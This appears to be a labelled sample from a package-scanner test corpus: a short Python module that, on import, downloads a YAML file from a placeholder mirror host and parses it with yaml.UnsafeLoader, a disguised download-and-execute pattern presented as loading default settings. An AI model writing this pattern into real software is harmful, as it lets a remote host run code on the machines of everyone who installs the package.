# pkgguard corpus 704 (download-execute), modelled on [obfuscation]; inert, never run.
import urllib.request

import yaml

_raw = urllib.request.urlopen("https://cfg-mirror.example/defaults.yml", timeout=10).read()
SETTINGS = yaml.load(_raw, Loader=yaml.UnsafeLoader) or {}
